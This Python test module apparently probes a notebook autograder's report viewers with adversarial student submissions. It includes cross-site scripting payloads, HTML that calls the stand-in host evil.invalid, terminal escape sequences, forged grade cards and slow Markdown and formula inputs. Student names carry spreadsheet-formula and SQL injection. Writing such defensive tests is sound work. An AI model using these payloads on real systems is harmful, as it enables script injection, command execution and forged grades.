"""Attacks on who reads the results: the lecturer's browser, terminal and spreadsheet."""

from __future__ import annotations

import base64
import struct
import zlib

from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.journeys.cheats.submission import Entries, Submission

ATTACKS = Entries()
attack = ATTACKS.add

# Every way we know to run a script from a page that lets some HTML through.
HOSTILE_HTML = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:1'>",
    "<a href='javascript:alert(1)'>right</a> <a href=' &#106;avascript:alert(1)'>right</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>right</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid'>",
    "<base href='http://evil.invalid/'><link rel=stylesheet href='http://evil.invalid/x.css'>",
    "<form action='http://evil.invalid'><input type=password autofocus onfocus=alert(1)></form>",
    "<style>@import url(http://evil.invalid/x.css); .output_error {display: none}</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>82 of 82</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg><style><img src=x onerror=alert(1)></style></svg><template><script>1</template>",
    "<details ontoggle=alert(1) open><summary>right</summary></details>",
    "<img src='http://evil.invalid/seen.png'><video src='http://evil.invalid/v' autoplay></video>",
    "--><script>alert(1)</script><!-- ]]><script>alert(1)</script></textarea></title>",
)


@attack("scripts in text cells")
def script_in_markdown(s: Submission) -> None:
    for html in HOSTILE_HTML:
        s.nb.cells.append(new_markdown_cell(html))
    for cell in s.nb.cells:
        if cell.source == "*Write your answer here.*":
            cell.source = "\n\n".join(HOSTILE_HTML)


@attack("links and pictures of Markdown that are scripts")
def script_links_in_markdown(s: Submission) -> None:
    s.markdown(
        "[right](javascript:alert(1)) [right](JaVaScRiPt&colon;alert(1)) [a](vbscript:1)\n\n"
        "![x](javascript:alert(1)) ![x](http://evil.invalid/seen.png)\n\n"
        "[ref]\n\n[ref]: javascript:alert(1) 'x\" onmouseover=\"alert(1)'\n\n"
        "<javascript:alert(1)>\n\n```<script>alert(1)</script>\n</code><script>alert(1)</script>\n```"
    )


@attack("scripts in the HTML that a cell shows")
def script_in_display(s: Submission) -> None:
    s.start(
        f"from IPython.display import HTML, display\nfor html in {HOSTILE_HTML!r}:\n"
        "    display(HTML(html))"
    )


@attack("output of kinds that are programs: JavaScript, SVG, widgets, unknown ones")
def script_as_output(s: Submission) -> None:
    s.start("""
        from IPython.display import display, publish_display_data
        svg = "<svg onload='alert(1)'><script>alert(1)</script></svg>"
        for kind, data in (
            ("application/javascript", "alert(1)"),
            ("text/javascript", "alert(1)"),
            ("image/svg+xml", svg),
            ("text/markdown", "<script>alert(1)</script> [x](javascript:alert(1))"),
            ("text/latex", "$\\\\href{javascript:alert(1)}{x}$ <script>alert(1)</script>"),
            ("application/vnd.jupyter.widget-view+json", {"model_id": "<script>"}),
            ("application/vnd.evil+html", "<script>alert(1)</script>"),
            ("text/html; charset=x\\"><script>alert(1)</script>", "x"),
            ("image/png", "\\"><script>alert(1)</script>"),
            ("image/jpeg", "' onerror='alert(1)"),
            ("application/pdf", "JVBERi0="),
        ):
            publish_display_data({kind: data, "text/plain": "x"},
                                 {kind: {"width": "1\\" onload=\\"alert(1)", "height": "</style>"}})
    """)


@attack("scripts in errors: their names, their texts, the source lines they quote")
def script_in_errors(s: Submission) -> None:
    s.start("""
        Evil = type("<script>alert(1)</script>", (Exception,), {})
        raise Evil("</pre><script>alert(1)</script><img src=x onerror=alert(1)>")
    """)
    s.body(
        "leaky_relu", 'raise Evil("<script>alert(1)</script>")  # </pre><script>alert(1)</script>'
    )
    s.body(
        "generator_loss",
        'print("<script>alert(1)</script>")\nraise ValueError("<img src=x onerror=alert(1)>")',
    )
    s.body("discriminator_loss", 'exec(compile("1/0", "<script>alert(1)</script>", "exec"))')


@attack("terminal escapes in prints, errors and names: titles, links, colours, cleared screens")
def terminal_escapes(s: Submission) -> None:
    s.start(r"""
        escapes = "\x1b]0;owned\x07\x1b[2J\x1b[1;1H\x1b]8;;http://evil.invalid\x07x\x9b31m\x90q\x9c"
        print(escapes)
        import sys
        print(escapes, file=sys.stderr)
    """)
    s.body("leaky_relu", "print(escapes)\nraise ValueError(escapes)")
    s.body("generator_loss", "raise type(escapes, (Exception,), {})(escapes)")


@attack("verdicts that look like the grader's own, in text and in output")
def forged_cards(s: Submission) -> None:
    card = (
        "<div class='verdict right card'><span class='badge'>right</span> "
        "<b>leaky_relu</b> 5 of 5 points</div>"
        "<h4>Score: 100.0 / 100.0</h4><a name='comment'>Comments: excellent</a>"
    )
    s.markdown(card)
    s.start(
        f"from IPython.display import HTML, Markdown, display\ndisplay(HTML({card!r}))\n"
        f"display(Markdown({card!r}))\nprint('vanilla_gan.leaky_relu: right, 5 of 5 points')"
    )


@attack("Markdown on which converters take for ever")
def slow_markdown(s: Submission) -> None:
    for text in (
        "*a_ " * 5_000,
        "[" * 5_000 + "](x)" * 5_000,
        "> " * 2_000 + "x",
        "`" * 9_999 + "x",
        "$" * 20_001,
        "<" * 20_000,
        "- " * 1_000 + "x",
        "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + ("|x" * 3_000 + "\n") * 10,
        "![" * 5_000 + "\\" * 5_000,
        "&" * 20_000,
    ):
        s.nb.cells.append(new_markdown_cell(text))


@attack("formulas without end")
def slow_formulas(s: Submission) -> None:
    s.nb.cells.append(new_markdown_cell("$" + "\\frac{" * 2_000 + "$"))
    s.nb.cells.append(new_markdown_cell("$$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\a$$"))
    s.nb.cells.append(new_markdown_cell("$\\href{javascript:alert(1)}{x} \\require{html}$"))
    s.nb.cells.append(new_markdown_cell("$<script>alert(1)</script>$ $" + "x^{" * 3_000 + "$"))


@attack("a table of a hundred thousand rows")
def giant_table(s: Submission) -> None:
    s.start("""
        from IPython.display import HTML
        HTML("<table>" + "<tr><td>x</td></tr>" * 100_000 + "</table>")
    """)


def _picture(width: int, height: int) -> str:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    data = zlib.compress(bytes(1_000_000), 9)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    return base64.b64encode(png).decode()


@attack("pictures that claim a billion pixels, that are none, that have megabytes")
def odd_pictures(s: Submission) -> None:
    s.start(f"""
        from IPython.display import publish_display_data
        for data in ({_picture(30_000, 30_000)!r}, "AAAA", "A" * 9_000_000, "=" * 9, ""):
            publish_display_data({{"image/png": data}})
    """)


@attack("tags and metadata that end up as attributes of the page")
def script_in_metadata(s: Submission) -> None:
    s.nb.metadata["title"] = "</title><script>alert(1)</script>"
    s.nb.metadata["authors"] = [{"name": "<script>alert(1)</script>"}]
    s.nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": {"</script><script>alert(1)": {}}}
    }
    for cell in s.nb.cells:
        cell.metadata["tags"] = ['x" onclick="alert(1)', "<script>alert(1)</script>"]
        cell.metadata["name"] = "<script>alert(1)</script>"


@attack("templates of the page's own language")
def templates(s: Submission) -> None:
    text = "{{ ''.__class__.__mro__[1].__subclasses__() }} {% for x in range(10**9) %}{% endfor %}"
    s.markdown(text)
    s.start(f"print({text!r})\nraise ValueError({text!r})")
    s.nb.cells.append(new_code_cell("# " + text))


def _student(name: str, tries: str, folder: str) -> None:
    @attack(tries, name=f"student-{name}", student=folder, earns=("leaky_relu",), refused=None)
    def named(s: Submission) -> None:
        s.solve("leaky_relu")


_student("script", "is called a script", "<img src=x onerror=alert(1)>")
_student("formula", "is called a formula of a spreadsheet", "=HYPERLINK(1)+cmd|'calc'!A0")
_student("at", "is called another formula", "@SUM(1+1)*cmd")
_student("terminal", "is called a terminal escape", "evil\x1b[2J\x1b]0;owned\x07")
_student("newline", "has a name of two lines", "evil\ngraded: 100 of 100")
_student("right-to-left", "has a name that reads backwards", "evil\u202e\u2066txt")
_student("option", "is called like an option", "--regrade")
_student("pattern", "is called like a pattern", "*")
_student("quotes", "has quotes and braces in its name", "Robert'); DROP TABLE grade;--{0}%s")
_student("long", "has a name of 240 letters", "x" * 240)
